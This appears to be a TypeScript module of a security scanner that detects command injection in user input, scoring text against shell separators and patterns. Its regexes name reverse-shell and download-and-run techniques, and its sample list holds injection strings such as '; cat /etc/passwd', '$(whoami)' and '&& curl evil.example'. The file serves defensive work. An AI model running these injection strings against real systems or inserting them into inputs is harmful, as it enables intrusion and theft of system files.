import { type AttackClass, everywhere, type Subject } from "../attack-class.ts";
import { withoutCode } from "../code-spans.ts";
import { commandNames, commandWord, lonelyNames, wordyNames } from "../shell-words.ts";
import { trait } from "../traits.ts";

/** Where a shell begins another command. */
const separator = /\$\(|[`;\n]|\|\|?|&&?|\{(?=\w{1,20},)/g;
/** What only a shell has, wherever it stands. */
const unmistakable =
  /\$\{?IFS\b|\(\)\s?\{[^};{]{0,20};\s?\};|\/dev\/(?:tcp|udp)\/|\bIEX\s{0,9}\(|New-Object\s{1,9}Net\.WebClient|Invoke-Expression|\$\{PATH:|\bbase64\s{1,9}(?:-d|--decode)\s{0,9}\||\|\s{0,9}(?:ba|z)?sh\b\s{0,9}$/i;
/** How an argument of a command begins, and a word of a sentence does not. */
const argument = /^\s{0,9}(?:[-/~.$<>"'*]|\d+(?:\s*$|\s*[#;|&)`]|\.\d)|[a-z]:\\|https?:|[a-z0-9-]{1,60}\.[a-z]{2,})/i;
/** Ends of a command's name; behind anything else it is part of another word. */
const wordEnd = /^(?:$|[\s;|&<>`)(])/;
const telling = /^net(?:sh)?\s{1,9}(?:user|view|localgroup|group|use|share|start|firewall|advfirewall)\b/i;
/** Functions of script languages that run a command or a program, called with a text. */
const calls =
  /\b(?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|eval|assert)\s{0,4}\(\s{0,4}["'$]|\bphpinfo\s{0,4}\(\s{0,4}\)/i;
const maxSeparators = 200;

/** Commands behind the characters at which a shell begins another one. */
export const command: AttackClass = {
  name: "command",
  summary: "Ends the argument of a command line and begins another command.",
  stops: ["CWE-77", "CWE-78", "CWE-88", "A03:2021"],
  places: everywhere,
  suspects: (traits) =>
    (traits &
      (trait.quote |
        trait.parenthesis |
        trait.backslash |
        trait.semicolon |
        trait.pipe |
        trait.ampersand |
        trait.backtick |
        trait.dollar |
        trait.lineBreak |
        trait.brace)) !==
    0,
  judge(subject) {
    const text = subject.profile === "typed" ? subject.text : withoutCode(subject.text);
    const isShort = text.length <= 200 && !text.trim().includes("\n");
    let score = (subject.profile === "typed" || isShort) && unmistakable.test(text) ? 5 : 0;
    if (subject.profile === "typed" && calls.test(text)) score = 5;
    if (subject.profile !== "typed" && !mayBreakOut(text)) return score;
    let left = maxSeparators;
    for (const found of text.matchAll(separator)) {
      if (score >= 5 || left-- === 0) break;
      score = Math.max(score, scoreCommand(text, found.index, found[0], subject));
    }
    return score;
  },
  found: [
    "; cat /etc/passwd",
    "$(whoami)",
    "`id`",
    "x|ls -la",
    "&& curl evil.example",
    ";c'a't /etc/passwd",
    "; sleep 5",
    "() { :;}; echo x",
  ],
  spared: [
    "Dog & cat food",
    "Toys & more",
    "salt; sleep well",
    "5 | 6",
    "$5 (five)",
    "Q&A; find out",
    "a && b",
    "Bath & Find; echo dot",
    "fish & head office",
  ],
};

function scoreCommand(text: string, at: number, mark: string, { profile }: Subject): number {
  const behind = text.slice(at + mark.length, at + mark.length + 300).trimStart();
  if (isPlainWord(behind)) return 0;
  const { word, rest, isHidden } = commandWord(behind);
  if (isHidden && (commandNames.has(word) || wordyNames.has(word) || /[?*]/.test(behind.slice(0, 12)))) return 6;
  const hasArgument = argument.test(rest) && rest.trim() !== "";
  const isSubstitution = mark === "$(" || mark === "`";
  if (isSubstitution) {
    if (mark === "`" && isQuotedWord(text, at)) return profile === "typed" ? 3 : 0;
    return commandNames.has(word) || (wordyNames.has(word) && (hasArgument || /^[\s)`]/.test(rest))) ? 5 : 0;
  }
  if (telling.test(behind)) return 5;
  if (!wordEnd.test(rest) && mark !== "{") return 0;
  const isSpaced = mark === "&" && text[at - 1] === " ";
  if (commandNames.has(word))
    return hasArgument || rest.trim() === "" || /^\s*[;|&]/.test(rest) || mark !== "&" ? 5 : 2;
  if (!wordyNames.has(word)) return 0;
  if (hasArgument && isCommandLine(rest, mark)) return isSpaced && /^\s*["'.]/.test(rest) ? 2 : 5;
  if (mark === "{") return 5;
  return lonelyNames.has(word) && /^\s*(?:$|[;|&#\n])/.test(rest) && !isSpaced ? 5 : 0;
}

/** A look before the reading: whether a word follows that is no command and hides none. */
function isPlainWord(behind: string): boolean {
  const word = /^\w{0,40}/.exec(behind)?.[0] ?? "";
  if (/["'\\$^/?*{}`~.]/.test(behind[word.length] ?? "") || word === "") return word === "" && behind === "";
  const name = word.toLowerCase();
  return !commandNames.has(name) && !wordyNames.has(name);
}

/** A line break begins the next line of every text: there, only a path or an option makes a word a command. */
function isCommandLine(rest: string, mark: string): boolean {
  if (mark !== "\n") return true;
  return /^\s*(?:\/|-[a-z]|[<>|;&]|~\/)/i.test(rest);
}

/** Whether the backtick begins or ends a word of a sentence that is quoted as code. */
function isQuotedWord(text: string, at: number): boolean {
  return (
    /[\p{L}\p{N},.:)] $/u.test(text.slice(Math.max(0, at - 2), at)) &&
    /`[\s,.;:)]|`$/.test(text.slice(at + 1, at + 300))
  );
}

/**
 * People's own words: a break-out follows something short, in a text of one line. A text that begins with a command, or has
 * sentences before it, is a text about commands.
 */
function mayBreakOut(text: string): boolean {
  const trimmed = text.trim();
  if (trimmed.length > 200 || trimmed.includes("\n")) return false;
  const first = trimmed.search(/[;|&`]|\$\(|\(\)/);
  if (first < 0) return false;
  const before = trimmed.slice(0, first).trim();
  if (before.split(/\s+/).length > 2) return false;
  const { word } = commandWord(before);
  return !commandNames.has(word) && !wordyNames.has(word) && word !== "git" && word !== "$";
}
